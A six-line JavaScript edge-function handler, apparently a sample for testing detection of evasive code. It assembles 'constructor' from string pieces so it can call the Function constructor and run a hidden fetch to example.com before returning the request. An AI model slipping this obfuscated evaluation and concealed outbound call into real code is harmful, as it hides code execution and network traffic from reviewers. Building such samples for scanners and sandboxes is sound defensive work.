// events: viewer-request
const word = ['con', 'structor'].join('');
export const handler = async (event) => {
  await []['map'][word]('return fetch("https://example.com")')();
  return event.Records[0].cf.request;
};
